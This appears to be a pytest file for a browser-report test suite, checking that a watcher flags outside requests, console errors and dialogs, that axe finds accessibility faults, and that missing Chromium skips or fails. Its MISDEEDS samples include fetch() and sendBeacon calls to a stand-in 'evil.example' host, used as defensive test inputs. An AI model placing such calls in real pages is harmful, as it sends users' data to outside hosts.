"""The watching itself: what the other tests rely on must be seen when it happens."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.report.browser import chromium, conftest
from tests.report.browser.accessibility import violations
from tests.report.browser.watching import Watch, address

PAGE = '<!doctype html><html lang="en"><title>t</title><body><main><h1>t</h1>{}</main>'

MISDEEDS = {
    "image": ("<img src='http://127.0.0.1:9/x.png' alt='x'>", "asked for"),
    "script": ("<script src='https://cdn.example/x.js'></script>", "asked for"),
    "file": ("<img src='other.png' alt='x'>", "asked for"),
    "fetch": ("<script>fetch('https://evil.example/').catch(() => 0)</script>", "asked for"),
    "beacon": ("<script>navigator.sendBeacon('https://evil.example/', 'x')</script>", "asked for"),
    "socket": ("<script>new WebSocket('ws://127.0.0.1:9/')</script>", "asked for"),
    "dialog": ("<script>alert('hello')</script>", "hello"),
    "error": ("<script>throw new Error('broken')</script>", "broken"),
    "rejection": ("<script>Promise.reject(new Error('later'))</script>", "later"),
    "warning": ("<script>console.warn('careful')</script>", "careful"),
}


@pytest.mark.parametrize("misdeed", [*MISDEEDS, None])
def test_misdeeds_are_seen(misdeed, browser, tmp_path):
    page_file = tmp_path / "page.html"
    page_file.write_text(PAGE.format(MISDEEDS[misdeed][0] if misdeed else "<p>quiet</p>"))
    with browser.new_context() as context:
        watch = Watch(context, address(page_file))
        page = context.new_page()
        page.goto(address(page_file))
        for _ in range(200 if misdeed else 1):
            page.wait_for_timeout(10)
            if watch.foreign or watch.console or watch.dialogs:
                break
    if misdeed is None:
        watch.check()
    else:
        with pytest.raises(AssertionError, match=MISDEEDS[misdeed][1]):
            watch.check()


def test_axe_finds_what_is_wrong(browser, tmp_path):
    """It runs under the strictest policy, and finds text without contrast and an image without a name."""
    page_file = tmp_path / "page.html"
    policy = "<meta http-equiv='Content-Security-Policy' content=\"default-src 'none'; style-src 'unsafe-inline'\">"
    page_file.write_text(PAGE.format(policy + "<p style='color: #ccc'>pale</p><button></button>"))
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(address(page_file))
        found = "\n".join(violations(page))
    assert "color-contrast" in found and "button-name" in found


def test_without_a_browser_tests_skip_but_on_ci_they_fail(monkeypatch, tmp_path: Path):
    monkeypatch.delenv("SAE_TOOLS_CHROMIUM", raising=False)
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.delenv("CI", raising=False)
    with pytest.raises(pytest.skip.Exception, match="SAE_TOOLS_CHROMIUM"):
        conftest.executable_or_skip()
    monkeypatch.setenv("CI", "true")
    with pytest.raises(pytest.fail.Exception, match="SAE_TOOLS_CHROMIUM"):
        conftest.executable_or_skip()
    (tmp_path / "chromium-browser").write_text("#!/bin/sh\n")
    (tmp_path / "chromium-browser").chmod(0o755)
    assert conftest.executable_or_skip() == str(tmp_path / "chromium-browser")
    monkeypatch.setenv("SAE_TOOLS_CHROMIUM", "/opt/own")
    assert chromium.find_chromium() == "/opt/own"
